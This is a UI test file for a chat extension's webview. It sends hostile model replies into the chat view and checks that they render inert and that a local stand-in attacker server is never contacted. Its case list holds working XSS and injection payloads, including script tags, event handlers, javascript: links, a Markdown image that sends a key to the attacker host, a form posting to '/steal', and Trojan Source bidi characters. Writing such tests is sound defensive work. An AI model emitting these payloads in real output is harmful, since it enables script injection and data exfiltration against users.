import * as assert from 'assert';
import * as http from 'http';
import type { AddressInfo } from 'net';
import { textReply } from '../server/chatServer';
import { chatFrame, openWorkbench, runCommand, screenshotIfFailed, type Workbench } from './workbench';

/**
 * Hostile model output in the real chat view: each reply must render inert (no script, no
 * handlers, no styles, no remote loads, no dangerous links) and the view must stay responsive.
 * A second local server stands in for the attacker; nothing may reach it.
 */
describe('Fault suite: hostile model output in the chat view (UI)', function () {
  this.timeout(180_000);
  let wb: Workbench;
  let attacker: http.Server;
  const hits: string[] = [];
  let evil = '';
  const rows: [string, string][] = [];

  before(async () => {
    attacker = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('x');
    });
    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
    evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    wb = await openWorkbench();
    await runCommand(wb.page, 'Parley: Open Chat');
    await chatFrame(wb.page).locator('#input').waitFor();
  });
  after(async () => {
    console.log(`\nHostile output: ${rows.length} cases\n${rows.map(([n, r]) => `${n.padEnd(44)} | ${r}`).join('\n')}`);
    await wb?.close();
    attacker?.close();
  });
  afterEach(function () {
    return screenshotIfFailed(this, wb?.page, 'hostile');
  });

  const cases: [string, () => string][] = [
    ['<script> element', () => 'a <script>document.title="pwned"</script> b'],
    ['event handler attribute', () => '<div onmouseover="document.title=1">hover</div> <b onclick="x()">b</b>'],
    ['<img> with onerror, remote src', () => `<img src="${evil}/img.png" onerror="document.title='pwned'">`],
    ['Markdown image to a remote host', () => `![secret](${evil}/md.png?data=KEY)`],
    ['javascript: link', () => '[click](javascript:document.title="pwned")'],
    [
      'mixed-case and entity-encoded javascript: links',
      () => '[a](JaVaScRiPt:alert(1)) [b](jav&#x61;script:alert(1)) <javascript:alert(1)>',
    ],
    ['data: and vbscript: links', () => '[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:msgbox(1))'],
    ['<iframe>', () => `<iframe src="${evil}/frame"></iframe>`],
    ['CSS injection with <style>', () => '<style>body{display:none} *{background:url(' + evil + '/css.png)}</style>visible'],
    ['style attribute', () => `<a href="https://example.com" style="position:fixed;inset:0;background:url(${evil}/bg.png)">x</a>`],
    ['<svg onload>', () => '<svg onload="document.title=\'pwned\'"><circle r="5"/></svg>'],
    ['<form> and <input>', () => `<form action="${evil}/steal"><input name="k" autofocus onfocus="x()"></form>`],
    ['<meta http-equiv=refresh>', () => `<meta http-equiv="refresh" content="0;url=${evil}/meta">`],
    ['Unicode bidi controls (Trojan Source)', () => '```js\nif (accessLevel != "user\u202E \u2066// Check if admin\u2069 \u2066") {\n```'],
    ['unbalanced fences', () => '```python\ndef f():\n    return 1\n\nnever closed <script>x()</script>'],
    ['a 1 MB single line', () => 'A'.repeat(1_000_000)],
    ['10,000 code blocks', () => Array.from({ length: 10_000 }, (_, i) => `\`\`\`\n${i}\n\`\`\``).join('\n')],
  ];

  for (const [name, reply] of cases) {
    it(name, async () => {
      const { page, server } = wb;
      const frame = chatFrame(page);
      const titleBefore = await frame.locator('body').evaluate(() => document.title);
      server.enqueue(textReply(reply()));
      await frame.locator('#input').fill(`hostile: ${name}`);
      await frame.locator('#input').press('Enter');
      // The reply is the article after this question (a long conversation shows only its latest
      // messages, so counting them would not find it).
      const asked = frame
        .locator('.message.user')
        .filter({ hasText: `hostile: ${name}` })
        .last();
      const answer = asked.locator('xpath=following-sibling::article[contains(@class, "assistant")][1]');
      await answer.waitFor({ timeout: 30_000 });
      await frame.locator('.message.assistant.streaming').waitFor({ state: 'detached', timeout: 60_000 });
      const body = answer.locator('.message-body');
      const t0 = Date.now();
      const found = await body.evaluate((el) => ({
        dangerous: el.querySelectorAll('script, iframe, img, svg, style, form, input, meta, object, embed, link').length,
        handlers: [...el.querySelectorAll('*')].filter((n) =>
          [...n.attributes].some((a) => /^on/i.test(a.name) || a.name === 'style' || a.name === 'src'),
        ).length,
        // No link keeps an href (the webview host would open it by itself); targets live in data-href.
        badLinks:
          el.querySelectorAll('a[href]').length +
          [...el.querySelectorAll('a[data-href]')].filter((a) => !/^(https?:|mailto:)/i.test(a.getAttribute('data-href') ?? '')).length,
        text: (el.textContent ?? '').slice(0, 200),
        blocks: el.querySelectorAll('.code-block').length,
        bodyVisible: getComputedStyle(document.body).display !== 'none',
      }));
      const responsiveMs = Date.now() - t0;
      assert.strictEqual(found.dangerous, 0, 'no active or loading elements');
      assert.strictEqual(found.handlers, 0, 'no handler, style or src attributes');
      assert.strictEqual(found.badLinks, 0, 'only http(s)/mailto links, none with an href');
      assert.ok(found.bodyVisible, 'CSS from the reply does not apply');
      assert.strictEqual(await frame.locator('body').evaluate(() => document.title), titleBefore, 'no script ran');
      if (name.startsWith('Unicode bidi')) assert.match(found.text, /⟦U\+202E⟧/);
      if (name.startsWith('10,000')) assert.strictEqual(found.blocks, 10_000);
      if (name.startsWith('unbalanced')) assert.strictEqual(found.blocks, 1);
      await page.waitForTimeout(200);
      assert.deepStrictEqual(hits, [], 'nothing reached the attacker server');
      rows.push([name, `inert; DOM check answered in ${responsiveMs} ms`]);
    });
  }

  it('the view still works after all of it', async () => {
    const frame = chatFrame(wb.page);
    wb.server.enqueue(textReply('Still **fine**.'));
    await frame.locator('#input').fill('are you ok?');
    await frame.locator('#input').press('Enter');
    await frame.locator('.message.assistant', { hasText: 'Still fine.' }).waitFor({ timeout: 30_000 });
  });
});
